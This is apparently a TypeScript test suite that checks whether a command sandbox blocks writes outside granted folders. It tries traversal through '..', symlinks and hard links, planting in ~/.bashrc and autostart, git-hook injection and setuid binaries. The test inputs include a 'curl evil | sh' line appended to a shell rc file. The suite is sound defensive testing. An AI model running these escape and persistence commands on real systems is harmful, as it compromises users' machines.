import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { after, afterEach, before, describe, test } from "node:test";
import { makeHostFixture, text, type HostFixture } from "../helpers/host-fixture.js";

describe("attack: writing outside granted paths", () => {
  let host: HostFixture;
  let baseline: Map<string, string>;
  before(() => {
    host = makeHostFixture();
  });
  after(() => host.cleanup());
  // Each test may create files only inside project/out; everything else must be as before.
  const outFiles = (): string[] => fs.readdirSync(path.join(host.project, "out")).filter((f) => f !== ".keep");
  afterEach(() => {
    for (const file of outFiles()) fs.rmSync(path.join(host.project, "out", file), { force: true, recursive: true });
  });
  const assertHostUnchangedBesidesOut = (): void => {
    const now = host.snapshot();
    for (const key of [...now.keys()]) if (key.startsWith("project/out/")) now.delete(key);
    const was = new Map(baseline);
    for (const key of [...was.keys()]) if (key.startsWith("project/out/")) was.delete(key);
    assert.deepEqual(now, was);
  };
  before(() => {
    baseline = host.snapshot();
  });

  test("a write grant allows writing inside it", async () => {
    const result = await host.sh("echo made > out/made.txt && cat out/made.txt", { allowWrite: ["./out"] });
    assert.equal(result.exitCode, 0, text(result));
    assert.equal(fs.readFileSync(path.join(host.project, "out/made.txt"), "utf8"), "made\n");
  });

  test("write through .. out of a granted folder", async () => {
    const result = await host.sh(
      `echo pwned > out/../package.json; echo pwned > out/../../outside/precious.txt; echo pwned > ${host.project}/out/../src/new.js`,
      { allowWrite: ["./out"] },
    );
    assert.notEqual(result.exitCode, 0);
    assertHostUnchangedBesidesOut();
  });

  test("write through a symlink planted in a granted folder", async () => {
    const result = await host.sh(
      `ln -s ${host.home}/.bashrc out/rc && echo 'curl evil | sh' >> out/rc; ln -s ../package.json out/pkg && echo pwned > out/pkg; cat out/pkg`,
      { allowWrite: ["./out"] },
    );
    // Inside, the links resolve in the sandbox's own view: at most they reach
    // its private scratch space. What matters is that the host is unchanged.
    assert.equal(result.exitCode, 0, text(result));
    assertHostUnchangedBesidesOut();
    assert.equal(fs.readFileSync(path.join(host.home, ".bashrc"), "utf8"), "# the user's own rc\n");
  });

  test("write through a symlink the host already has in a granted folder", async () => {
    fs.symlinkSync(path.join(host.outside, "precious.txt"), path.join(host.project, "out/pre-link"));
    baseline = host.snapshot();
    const result = await host.sh("echo pwned > out/pre-link", { allowWrite: ["./out"] });
    assert.notEqual(result.exitCode, 0);
    assert.equal(fs.readFileSync(path.join(host.outside, "precious.txt"), "utf8"), "do not touch\n");
    assertHostUnchangedBesidesOut();
  });

  test("write through a hard link prepared inside a granted folder", async () => {
    const result = await host.sh(
      "ln src/index.js out/hard && echo LINKED; echo pwned >> out/hard; ln /etc/hostname out/h2 && echo LINKED2",
      { allowRead: ["./src"], allowWrite: ["./out"] },
    );
    assert.doesNotMatch(result.stdout.toString(), /LINKED/);
    assert.equal(fs.readFileSync(path.join(host.project, "src/index.js"), "utf8"), "console.log('hello');\n");
    assertHostUnchangedBesidesOut();
  });

  test("plant a file in the real $HOME (shell rc, autostart)", async () => {
    const result = await host.sh(
      `echo 'evil' >> ~/.bashrc; mkdir -p ~/.config/autostart && echo evil > ~/.config/autostart/x.desktop; echo evil >> ${host.home}/.bashrc; ls -a ~`,
      { allowWrite: ["./out"] },
    );
    assert.ok(!fs.existsSync(path.join(host.home, ".config/autostart/x.desktop")));
    assert.equal(fs.readFileSync(path.join(host.home, ".bashrc"), "utf8"), "# the user's own rc\n");
    assert.doesNotMatch(result.stdout.toString(), /\.ssh/);
    assertHostUnchangedBesidesOut();
  });

  test("plant a git hook even with the whole project writable", async () => {
    fs.rmSync(path.join(host.project, "out/pre-link"), { force: true });
    baseline = host.snapshot();
    const result = await host.sh(
      "echo '#!/bin/sh' > .git/hooks/pre-commit; echo '[core] hooksPath=/tmp' >> .git/config; echo ok > out/fine.txt",
      { allowWrite: ["."] },
    );
    assert.match(text(result), /Read-only file system/);
    const now = host.snapshot();
    assert.ok(!now.has("project/.git/hooks/pre-commit"));
    assert.equal(now.get("project/.git/config"), baseline.get("project/.git/config"));
    assert.ok(fs.existsSync(path.join(host.project, "out/fine.txt")));
  });

  test("plant a git hook by renaming .git away and rebuilding it", async () => {
    const before = host.snapshot();
    const result = await host.sh(
      "mv .git .git-old && echo MOVED; mkdir -p .git-new/hooks && echo '#!/bin/sh' > .git-new/hooks/pre-commit && mv .git-new .git && echo REPLACED; " +
        "mkdir -p .github/workflows 2>/dev/null; echo 'on: push' > .github/workflows/x.yml 2>/dev/null && echo WORKFLOW; true",
      { allowWrite: ["."] },
    );
    assert.doesNotMatch(result.stdout.toString(), /MOVED|REPLACED/, text(result));
    const now = host.snapshot();
    assert.equal(now.get("project/.git/config"), before.get("project/.git/config"));
    assert.ok(!now.has("project/.git/hooks/pre-commit"));
    assert.ok(!now.has("project/.git-old/config"));
    for (const key of now.keys()) if (key.startsWith("project/.git-new")) fs.rmSync(path.join(host.root, key), { recursive: true, force: true });
    fs.rmSync(path.join(host.project, ".github"), { recursive: true, force: true });
  });

  test("granting .git by its own path makes it writable (an explicit grant wins)", async () => {
    const result = await host.sh("touch .git/cordon-explicit && echo WROTE", { allowWrite: [".", "./.git"] });
    assert.match(result.stdout.toString(), /WROTE/);
    fs.rmSync(path.join(host.project, ".git/cordon-explicit"), { force: true });
  });

  test("leave a setuid or setgid binary in a writable grant", async () => {
    const result = await host.sh(
      "cp /bin/sh out/rootsh && chmod 4755 out/rootsh; chmod g+s out/rootsh; chmod 755 out/rootsh && echo PLAIN_CHMOD_OK; " +
        "python3 -c 'import os; os.close(os.open(\"out/created\", os.O_CREAT | os.O_WRONLY, 0o6755))' 2>&1 | tail -1; " +
        "python3 -c 'import os; os.mknod(\"out/node\", 0o104755)' 2>&1 | tail -1",
      { allowWrite: ["./out"] },
    );
    assert.match(result.stdout.toString(), /PLAIN_CHMOD_OK/, "ordinary modes must still work");
    for (const name of fs.readdirSync(path.join(host.project, "out"))) {
      const mode = fs.statSync(path.join(host.project, "out", name)).mode;
      assert.equal(mode & 0o6000, 0, `${name} has mode ${mode.toString(8)}`);
    }
  });

  test("the root, /etc and /usr of the sandbox are read-only", async () => {
    const result = await host.sh("touch /x /etc/x /usr/x /dev/x 2>&1; echo done");
    assert.equal(result.stdout.toString().match(/Read-only file system/g)?.length, 4, text(result));
  });
});
